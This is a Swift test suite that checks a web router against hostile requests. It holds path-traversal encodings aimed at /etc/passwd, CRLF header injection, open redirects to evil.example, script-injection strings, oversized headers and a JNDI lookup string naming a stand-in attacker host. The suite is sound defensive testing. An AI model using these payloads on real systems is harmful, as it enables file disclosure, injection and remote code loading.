import Probes
import Testing
import Web

@Suite("Hostile requests")
struct HostileRequestTests {
    private let router = PlantedProgramme().router

    private static let escapes = [
        "..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "%25252e%25252e", "%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "..%2f",
        "..%5c",
        "%2e%2e%2f", "..%252f", "%5c..", "..\\", "..;", "%00", "..%00", ".%0a.", "%2e%2e%c0%af", "．．",
        "%ef%bc%8e%ef%bc%8e",
    ]

    @Test("lead out of no folder", arguments: escapes)
    func traversal(_ step: String) throws {
        let router = try #require(router)
        let climb = Array(repeating: step, count: 6).joined(separator: "/")
        for target in [
            "/\(climb)/etc/passwd", "/planted/\(climb)/etc/passwd", "/planted/sessions/\(step)/index.html",
            "/planted/in/\(climb)/etc/passwd", "/planted/in/Europe/\(step)/London.html", "/planted/assets/\(climb)/x",
            "/planted/\(step)", "/\(step)/planted/",
        ] {
            let request = Request(target: target)
            #expect(answerFindings(request, router) == [], "\(target)")
            let status = status(of: router.reply(to: request))
            #expect([400, 404].contains(status), "\(target): \(status)")
        }
    }

    @Test(
        "write no field of their own, and lead to no other site",
        arguments: [
            "/planted?a=%0d%0aX:1", "/planted?\u{e9}=\u{202E}", "//evil.example/planted",
            "/planted/calendar.ics/?x=%0aX",
            "//evil.example/%2e%2e", "/\\evil.example", "/planted/in/europe/london?%0d%0a",
            "http://evil.example/planted",
            "/planted/in/EUROPE/LONDON.html?a=\"<script>", "/planted/sessions/one/?//evil.example",
            "https://evil.example//planted",
            "/planted/my.ics?sessions=%0d%0aX:1&alarm=10m%0d%0aX:1", "/planted/changes.atom?tracks=]]%3e%3cscript%3e",
            "/planted/?language=%3cscript%3e", "/planted/my.ics?alarm=<script>", "/planted/my.ics?follow=%1b[31m",
            "/<script>alert(1)</script>", "/planted/%3Cscript%3E", "/planted/%1b%5b31m", "/planted/\u{202E}",
        ])
    func fields(_ target: String) throws {
        let router = try #require(router)
        for accept in ["text/html", "application/json", "*/*"] {
            #expect(answerFindings(Request(target: target, headers: ["Accept": accept]), router) == [])
        }
    }

    @Test(
        "break nothing by their fields",
        arguments: [
            ("Accept-Language", String(repeating: "en-", count: 5_000)), ("Accept-Language", "*;q=0, fr;q=9e999, ;;q="),
            ("Accept", String(repeating: "text/html;q=0.1,", count: 2_000)),
            ("Accept-Encoding", "gzip;q=0.0000001,*;q=-1"),
            ("If-None-Match", String(repeating: "\"x\",", count: 5_000)), ("If-None-Match", "W/\"\\\"\", *, \""),
            ("If-Modified-Since", "Sat, 99 Jul 9999 99:99:99 GMT"),
            ("If-Modified-Since", "Sat, 25 Jul -999 07:00:00 GMT"),
            ("Host", "evil.example\"><script>"), ("X-Forwarded-Host", "evil.example"),
            ("X-Forwarded-Proto", "javascript"),
            ("Forwarded", "host=evil.example"), ("X-Original-URL", "/etc/passwd"), ("Range", "bytes=0-,0-,0-"),
            ("User-Agent", "${jndi:ldap://evil.example}"), ("Cookie", String(repeating: "x", count: 30_000)),
        ])
    func values(_ name: String, _ value: String) throws {
        let router = try #require(router)
        for target in ["/planted/", "/planted/calendar.ics", "/planted/my.ics?tracks=t", "/nothing", "/planted"] {
            let request = Request(target: target, headers: [name: value].asHeaders)
            #expect(answerFindings(request, router) == [], "\(target)")
            if case .whole(let response) = router.reply(to: request) {
                let said =
                    response.headers.fields.map(\.value).joined() + String(decoding: response.body.bytes, as: UTF8.self)
                #expect(!said.contains("evil.example"), "\(target)")
            }
        }
    }

    private func status(of reply: Reply) -> Int {
        switch reply {
        case .whole(let response): response.status
        case .aside(_, let make): make().status
        case .events: 200
        }
    }
}

extension [String: String] {
    fileprivate var asHeaders: Headers { Headers(map { .init($0.key, $0.value) }) }
}
